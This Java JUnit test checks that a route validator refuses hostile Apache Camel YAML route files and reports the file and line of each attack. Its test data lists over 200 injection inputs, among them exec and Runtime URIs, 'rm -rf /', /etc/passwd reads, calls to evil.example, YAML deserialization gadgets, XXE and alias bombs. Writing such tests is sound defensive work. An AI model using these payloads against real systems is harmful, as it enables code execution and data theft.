package io.caravan.flow;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Route files that reach for what routes may not have: each is refused with its file and the line where it stands. */
class RouteAttackTest {

    private static final String STEP = """
            - route:
                id: do-harm
                description: a route from outside
                routeConfigurationId: give-back
                from:
                  uri: direct:harm
                  steps:
            """;

    /** The line that holds the attack ends in {@code #!}. */
    static Stream<Arguments> attacks() {
        List<Arguments> all = new ArrayList<>();
        for (String uri : List.of("exec:rm?args=-rf%20/", "bean:gate?method=pass",
                "class:java.lang.Runtime?method=exec", "ref:anything",
                "language:groovy:1+1", "controlbus:route?routeId=send-standard&action=stop", "dataset:x", "stub:x",
                "mock:x",
                "scheduler:x", "timer:x", "rest:get:x", "rest-api:x", "xslt:file:/etc/passwd",
                "validator:file:/etc/passwd", "http:evil.example",
                "https://evil.example/x", "ftp:u@evil.example/", "sftp:evil.example", "smtp:evil.example",
                "jdbc:dataSource", "sql:drop table x",
                "jpa:x", "docker:exec", "ssh:evil.example", "jms:queue", "kafka:topic", "velocity:/etc/passwd",
                "freemarker:x", "mvel:x", "jslt:x",
                "groovy:x", "vertx:x", "netty:tcp://0.0.0.0:25", "mina:x", "platform-http:/x",
                "file:/etc?fileName=passwd", "file:../../x",
                "file:{{caravan.data}}/../keys?fileName=x", "quartz:x?cron=*", "kamelet:x", "saga:x", "xpath:x",
                "browse:x", "dynamic-router:x",
                "EXEC:ls", "' exec:ls'", "'{{routes.where}}:ls'", "'{{routes.where}}'", "'direct:${bean:gate}'",
                "direct%3aharm")) {
            all.add(attack("to " + uri, "        - to:\n            uri: " + uri + " #!\n"));
            all.add(attack("from " + uri, """
                    - route:
                        id: do-harm
                        description: a route from outside
                        routeConfigurationId: give-back
                        from:
                          uri: %s #!
                          steps:
                            - log:
                                message: x
                    """.formatted(uri), true));
        }
        all.add(attack("toD that joins expressions",
                "        - toD:\n            uri: direct:x+language:groovy:Runtime.exec #!\n"));
        all.add(attack("toD to anywhere", "        - toD:\n            uri: ${header.where} #!\n"));
        all.add(attack("toD with all schemes",
                "        - toD:\n            uri: direct:x\n            allowedSchemes: exec #!\n"));
        all.add(attack("wireTap", "        - wireTap:\n            uri: exec:ls #!\n"));
        all.add(attack("enrich",
                "        - enrich: #!\n            expression:\n              constant:\n                expression: exec:ls\n"));
        all.add(attack("pollEnrich",
                "        - pollEnrich: #!\n            expression:\n              constant:\n                expression: file:/etc\n"));
        all.add(attack("poll", "        - poll: #!\n            uri: file:/etc\n"));
        all.add(attack("recipientList",
                "        - recipientList: #!\n            expression:\n              constant:\n                expression: exec:ls\n"));
        all.add(attack("routingSlip",
                "        - routingSlip: #!\n            expression:\n              constant:\n                expression: exec:ls\n"));
        all.add(attack("dynamicRouter",
                "        - dynamicRouter: #!\n            expression:\n              constant:\n                expression: exec:ls\n"));
        all.add(attack("script",
                "        - script: #!\n            expression:\n              groovy:\n                expression: 1+1\n"));
        for (String language : List.of("groovy", "js", "python", "mvel", "ognl", "spel", "joor", "java", "xpath",
                "xquery", "jsonpath", "datasonnet",
                "csimple", "wasm", "language")) {
            all.add(attack("expression " + language,
                    "        - setBody:\n            expression:\n              " + language
                            + ": #!\n                expression: x\n"));
        }
        all.add(attack("bean expression by ref",
                "        - setBody:\n            expression:\n              ref: #!\n                expression: gate\n"));
        all.add(attack("beanType",
                "        - bean:\n            ref: gate\n            method: pass\n            beanType: java.lang.Runtime #!\n"));
        all.add(attack("beanType in a method expression",
                "        - setBody:\n            expression:\n              method:\n                ref: hours\n"
                        + "                method: opening('a','b','c')\n                beanType: java.lang.Runtime #!\n"));
        all.add(attack("a bean that is no step",
                "        - bean: #!\n            ref: dataSource\n            method: getConnection\n"));
        all.add(attack("a method that is no step",
                "        - bean: #!\n            ref: gate\n            method: getClass\n"));
        all.add(attack("no method", "        - bean: #!\n            ref: gate\n"));
        all.add(attack("a call in an argument",
                "        - bean:\n            ref: batches\n            method: \"hold(${body}, ${bean:gate.pass})\" #!\n"));
        all.add(attack("an argument that is code",
                "        - bean: #!\n            ref: batches\n            method: \"hold(${body}, x.y())\"\n"));
        all.add(attack("process", "        - process: #!\n            ref: gate\n"));
        for (String text : List.of("${bean:gate}", "${bean:type:java.lang.Runtime?method=getRuntime}",
                "${type:java.lang.Runtime.getRuntime}",
                "${env.HOME}", "${env:HOME}", "${sysenv.HOME}", "${sys.user.home}", "${camelContext.stop}",
                "${camelContext.registry}",
                "${exchange.context}", "${body.class.classLoader}", "${body.getClass.forName(x)}", "${body.delete}",
                "${ref:gate}",
                "${properties:caravan.database.password}", "${propertiesExist:x}", "${exception.stacktrace}",
                "${header.x.class}",
                "${headerAs(x, java.io.File)}", "${bodyAs(java.io.File)}", "${mandatoryBodyAs(java.io.File)}",
                "${skip(3)}", "${hash(x)}",
                "${messageAs(x)}", "${date:file:yyyy}", "${file:path}", "${random(9)}", "$simple{env.HOME}",
                "${header.${header.x}}",
                "${setHeader(CamelFileName, x)}", "$init{ $a := ${body}; }init$", "{{env:HOME}}", "{{sys:user.home}}",
                "{{service:x}}",
                "{{service.host:x}}", "{{bean:gate.pass}}", "{{secret:x}}", "{{vault:x}}",
                "{{caravan.database.password}}",
                "{{caravan.relays.a.uri}}", "{{routes.{{routes.x}}}}", "{{spring.datasource.password}}",
                "resource:file:/etc/passwd",
                "resource:classpath:application.yaml", "#gate", "#class:java.lang.Runtime", "#bean:gate", "#type:x",
                "java.lang.Runtime", "https://hooks.evil.example/T000", "password=hunter2", "Bearer abcdefghijkl",
                "10.0.0.1", "smtp.evil.example:25",
                "http://[::1]/", "user:pw@evil.example//x@y")) {
            if (!text.startsWith("user:")) {
                all.add(attack("text " + text,
                        "        - setBody:\n            expression:\n              simple:\n                expression: '"
                                + text
                                + "' #!\n"));
                all.add(attack("log " + text, "        - log:\n            message: '" + text + "' #!\n"));
            }
        }
        all.add(attack("simple that asks a class", "        - filter:\n            expression:\n              simple:\n"
                + "                expression: \"${body} is 'java.io.File'\" #!\n            steps:\n              - stop: {}\n"));
        for (String option : List.of("fileName: '../../keys/token'", "fileName: /etc/cron.d/x", "tempPrefix: ../x",
                "jailStartingDirectory: false", "move: /etc/x", "moveFailed: /x", "preMove: /x", "filter: '#x'",
                "sorter: '#x'", "chmod: 777",
                "processStrategy: '#x'", "doneFileName: /x", "recursive: true", "delete: true", "sortBy: 'bean:x'",
                "moveExisting: /x",
                "idempotentKey: '${bean:x}'", "exclusiveReadLockStrategy: '#x'", "scheduler: spring",
                "fileName: 'x/y'")) {
            all.add(attack("file with " + option, "        - to:\n            uri: file #!\n            parameters:\n"
                    + "              directoryName: '{{caravan.data}}'\n              " + option + "\n"));
        }
        all.add(attack("file name that calls", "        - to:\n            uri: file\n            parameters:\n"
                + "              directoryName: '{{caravan.data}}'\n              fileName: '${bean:gate}' #!\n"));
        all.add(attack("seda with a foreign queue", "        - to:\n            uri: seda:x?queue=#dataSource #!\n"));
        all.add(attack("log with a foreign formatter",
                "        - to:\n            uri: log:x?exchangeFormatter=#class:x #!\n"));
        for (String header : List.of("CamelBeanMethodName", "CamelFileName", "CamelExecCommandExecutable",
                "CamelHttpUri", "camelFoo",
                "beanMethodName", "Bcc")) {
            all.add(attack("header " + header, "        - setHeader:\n            name: " + header
                    + " #!\n            expression:\n              constant:\n                expression: x\n"));
        }
        all.add(attack("convertBodyTo", "        - convertBodyTo: #!\n            type: java.io.File\n"));
        all.add(attack("unmarshal", "        - unmarshal: #!\n            json: {}\n"));
        all.add(attack("doTry", "        - doTry: #!\n            steps: []\n"));
        all.add(attack("loop",
                "        - loop: #!\n            expression:\n              constant:\n                expression: '1000000000'\n"));
        all.add(attack("throwException",
                "        - throwException: #!\n            exceptionType: java.lang.Error\n            message: x\n"));
        for (String top : List.of("beans", "rest", "restConfiguration", "dataFormats", "errorHandler", "intercept",
                "interceptFrom",
                "interceptSendToEndpoint", "onCompletion", "onException", "routeTemplate", "templatedRoute",
                "sslContextParameters", "transformers",
                "validators", "routeConfiguration", "pipe", "kamelet")) {
            all.add(attack("top " + top, "- " + top + ": {} #!\n", true));
        }
        all.add(attack("beans that run code", """
                - beans: #!
                    - name: harm
                      type: java.lang.ProcessBuilder
                      script: Runtime.getRuntime().exec('ls')
                """, true));
        all.add(attack("error handler in a route", STEP.replace("    from:", "    errorHandlerRef: harm #!\n    from:")
                + "        - stop: {}\n", true));
        all.add(attack("policy in a route",
                STEP.replace("    from:", "    routePolicyRef: harm #!\n    from:") + "        - stop: {}\n", true));
        all.add(attack("precondition",
                STEP.replace("    from:", "    precondition: 'x' #!\n    from:") + "        - stop: {}\n", true));
        all.add(attack("tag", "        - log:\n            message: !!javax.script.ScriptEngineManager [x] #!\n"));
        all.add(attack("url tag",
                "        - log:\n            message: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['x']]]] #!\n"));
        all.add(attack("local tag", "        - log:\n            message: !env HOME #!\n"));
        all.add(attack("binary tag", "        - log:\n            message: !!binary aGFybQ== #!\n"));
        all.add(attack("merge by alias", "- route: &a #!\n    id: x\n", true));
        all.add(attack("alias bomb", "- &a [x, x] #!\n- &b [*a, *a, *a]\n- [*b, *b, *b]\n", true));
        all.add(attack("second document", STEP + "        - stop: {}\n--- #!\n- route: {}\n", true));
        all.add(attack("the same key twice", STEP
                + "        - bean:\n            ref: gate\n            method: pass\n            method: getClass #!\n",
                true));
        all.add(attack("xml",
                "<routes xmlns='x'><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> #!\n</routes>\n", true));
        all.add(attack("json file", "{\"routes\": []} #!\n", true));
        all.add(attack("broken yaml", STEP + "        - log:\n            message: 'x\n #!\n", true, 9));
        return all.stream();
    }

    private final RouteCheck check = new RouteCheck(RouteFakes.api(), RouteCheckTest.SET::get);

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void refusesAttackWithFileAndLine(String name, String text, int line) {
        List<RouteProblem> problems = check.check(with(text));

        assertThat(problems).extracting(RouteProblem::file, RouteProblem::line)
                .contains(org.assertj.core.groups.Tuple.tuple("routes/99-harm.camel.yaml", line));
        assertThat(problems).allSatisfy(p -> assertThat(p.what()).doesNotContain("cannot be built"));
    }

    @Test
    void knowsMoreThanFortyAttacksAndRefusesNothingOfTheFrameItself() {
        String harmless = STEP + "        - log:\n            message: 'route=${routeId} workflow=${body.workflow}'\n";

        assertThat(attacks()).hasSizeGreaterThan(200);
        assertThat(check.check(with(harmless))).isEmpty();
    }

    @Test
    void refusesFilesThatAreTooLarge() {
        String bomb = "- x\n" + " ".repeat(RouteFile.LARGEST) + "\n";

        assertThat(check.check(with(bomb))).isNotEmpty();
    }

    private static List<RouteFile> with(String text) {
        return RouteFile.layered(RouteFile.packed(),
                List.of(new RouteFile("99-harm.camel.yaml", "routes/99-harm.camel.yaml", text)));
    }

    private static Arguments attack(String name, String step) {
        return attack(name, STEP + step, true);
    }

    private static Arguments attack(String name, String text, boolean whole) {
        List<String> lines = text.lines().toList();
        int line = 1;
        while (!lines.get(line - 1).endsWith("#!")) {
            line++;
        }
        return attack(name, text, whole, line);
    }

    private static Arguments attack(String name, String text, boolean whole, int line) {
        return Arguments.of(name, text.replace(" #!", ""), line);
    }
}
